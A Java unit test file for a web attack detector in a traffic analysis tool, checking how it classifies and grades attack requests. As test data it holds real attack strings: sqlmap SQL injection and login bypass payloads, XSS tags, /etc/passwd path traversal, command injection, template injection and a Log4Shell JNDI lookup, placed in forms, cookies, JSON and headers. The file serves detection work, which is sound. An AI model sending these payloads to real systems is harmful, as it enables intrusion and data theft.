package org.nta.detect.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.nta.detect.Finding;
import org.nta.detect.FindingType;
import org.nta.detect.Phase;
import org.nta.detect.Severity;

class WebAttackDetectorTest {
    private final WebEvents ev = new WebEvents();
    private final WebAttackDetector d = new WebAttackDetector(WebConfig.DEFAULTS);
    private static final String SQLMAP = "sqlmap/1.7.2#stable (https://sqlmap.org)";
    private static final String LOGIN_PAGE = "<html><form method=post><input name=username><input name=password type=password></form></html>";

    @Test
    void sqliWithDatabaseErrorsAndLoginBypassSucceeds() {
        long first = ev.frame;
        d.onEvent(ev.req("POST", "/index.php").ua(SQLMAP).form("username=admin&password=pass").answer(200, LOGIN_PAGE).tx());
        long errFrame = ev.frame + 1;
        d.onEvent(ev.req("POST", "/index.php").ua(SQLMAP).form("username=admin%2C%27%2C%22%2C%2C.%29%28.&password=pass")
                .answer(200, "<b>Warning</b>: SQLite3::query(): Unable to prepare statement: 1, near \",\": syntax error in "
                        + "/var/www/html/index.php on line 9 (connected as root:bobthe@localhost)").tx());
        for (int i = 0; i < 3; i++) {
            d.onEvent(ev.req("POST", "/index.php").ua(SQLMAP).form("username=admin%27%20AND%20" + (1000 + i) + "%3D" + (2000 + i)
                    + "%20AND%20%27aaaa%27%3D%27aaaa&password=pass").answer(200, LOGIN_PAGE).tx());
        }
        d.onEvent(ev.req("POST", "/index.php").ua(SQLMAP).form("username=-1%27%20OR%202101%3D2101%20AND%20%27bbbb%27%3D%27bbbb&password=pass")
                .status(302).location("/editprofile.php").tx());
        List<Finding> fs = d.finish();
        assertThat(fs).hasSize(1);
        Finding f = fs.get(0);
        assertThat(f.type()).isEqualTo(FindingType.WEB_ATTACK);
        assertThat(f.phase()).isEqualTo(Phase.EXPLOITATION);
        assertThat(f.succeeded()).isTrue();
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
        assertThat(f.firstFrame()).isEqualTo(first); // an offensive tool's session counts from its first request
        Map<String, Object> e = f.evidence();
        assertThat(e.get("kinds")).asList().containsExactly("sqli");
        assertThat(e).containsEntry("tool", "sqlmap").containsEntry("requests", 6L).containsEntry("payload_requests", 5L);
        assertThat((Map<String, Long>) e.get("indicator_counts")).containsEntry("db_error", 1L).containsEntry("login_bypass", 1L);
        assertThat((List<Map<String, Object>>) e.get("success_indicators")).extracting(m -> m.get("indicator") + "@" + m.get("frame"))
                .contains("db_error@" + errFrame);
        assertThat((List<Map<String, Object>>) e.get("samples")).allSatisfy(m -> {
            assertThat(m).containsKeys("decoded", "location", "parameter", "frame", "status");
            assertThat(m.get("location")).isEqualTo("form");
        });
    }

    @Test
    void probesThatFailAreAttemptsOnly() {
        long first = ev.frame;
        d.onEvent(ev.req("GET", "/search.php?q=%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E").ua("curl/7.88.1").tx());
        d.onEvent(ev.req("GET", "/download.php?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd").ua("curl/7.88.1").tx());
        d.onEvent(ev.req("GET", "/search.php?q=%7B%7B7*7%7D%7D").ua("curl/7.88.1").tx());
        d.onEvent(ev.req("GET", "/ping.php?host=127.0.0.1%3Bid").ua("curl/7.88.1").tx());
        long last = ev.frame;
        d.onEvent(ev.req("GET", "/").ua("${jndi:ldap://10.0.0.66:1389/Exploit}").answer(200, "home").tx());
        Finding f = d.finish().get(0);
        assertThat(f.succeeded()).isFalse();
        assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(f.firstFrame()).isEqualTo(first);
        assertThat(f.lastFrame()).isEqualTo(last); // the JNDI User-Agent stays in curl's session
        assertThat(f.evidence().get("kinds")).asList()
                .containsExactly("xss", "path_traversal", "cmd_injection", "template_injection", "jndi");
        assertThat(f.evidence()).containsEntry("tool", "curl");
        assertThat((Map<String, Long>) f.evidence().get("encodings")).containsKey("double_url");
        assertThat((List<Map<String, Object>>) f.evidence().get("samples")).extracting(m -> m.get("decoded"))
                .contains("<script>alert(document.cookie)</script>", "../../etc/passwd", "{{7*7}}", "127.0.0.1;id");
    }

    @Test
    void reflectedScriptSucceeds() {
        d.onEvent(ev.req("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E").ua(WebEvents.FIREFOX)
                .answer(200, "<p>Results for <script>alert(1)</script></p>").tx());
        Finding f = d.finish().get(0);
        assertThat(f.succeeded()).isTrue();
        assertThat((Map<String, Long>) f.evidence().get("indicator_counts")).containsKey("reflected");
    }

    @Test
    void escapedReflectionIsNotSuccess() {
        d.onEvent(ev.req("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E").ua(WebEvents.FIREFOX)
                .answer(200, "<p>Results for &lt;script&gt;alert(1)&lt;/script&gt;</p>").tx());
        assertThat(d.finish().get(0).succeeded()).isFalse();
    }

    @Test
    void traversalReturningPasswdSucceeds() {
        d.onEvent(ev.req("GET", "/download.php?file=../../../etc/passwd").ua("curl/8.0")
                .answer(200, "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n").answerType("text/plain").tx());
        Finding f = d.finish().get(0);
        assertThat(f.succeeded()).isTrue();
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void serverErrorAloneIsNotSuccess() {
        d.onEvent(ev.req("GET", "/product.php?id=1%27").ua(WebEvents.FIREFOX).answer(500, "Database error.").tx());
        Finding f = d.finish().get(0);
        assertThat(f.succeeded()).isFalse();
        assertThat((Map<String, Long>) f.evidence().get("indicator_counts")).containsEntry("server_error", 1L);
    }

    @Test
    void unansweredIsUnknown() {
        d.onEvent(ev.req("GET", "/x?id=1%20UNION%20SELECT%201,2").ua(WebEvents.FIREFOX).unanswered().tx());
        assertThat(d.finish().get(0).succeeded()).isNull();
    }

    @Test
    void payloadsInCookiesJsonMultipartAndHeaders() {
        d.onEvent(ev.req("GET", "/").cookie("lang", "..%2F..%2F..%2Fetc%2Fpasswd").tx());
        d.onEvent(ev.req("POST", "/api").json("{\"q\":{\"name\":\"' OR '1'='1\"}}").tx());
        d.onEvent(ev.req("POST", "/form").part("comment", "<script>alert(1)</script>").tx());
        d.onEvent(ev.req("GET", "/").header("X-Forwarded-For", "127.0.0.1; id").tx());
        Map<String, Long> locs = (Map<String, Long>) d.finish().get(0).evidence().get("locations");
        assertThat(locs).containsKeys("cookie", "json", "multipart", "header");
    }

    @Test
    void ordinaryTrafficIsNothing() {
        d.onEvent(ev.req("GET", "/search?q=select+a+product+from+the+list&page=2").ua(WebEvents.CHROME).answer(200, "ok").tx());
        d.onEvent(ev.req("POST", "/index.php").ua(WebEvents.CHROME).form("username=bob&password=b%21%40%23%24").status(302).location("/home").tx());
        d.onEvent(ev.req("GET", "/browse.php").ua(WebEvents.CHROME).header("Referer", "http://10.0.0.5/index.php?next=/a&b=c")
                .cookie("PHPSESSID", "4f3c2b1a9e8d7c6b5a4f3c2b1a9e8d7c").answer(200, "ok").tx());
        assertThat(d.finish()).isEmpty();
    }
}
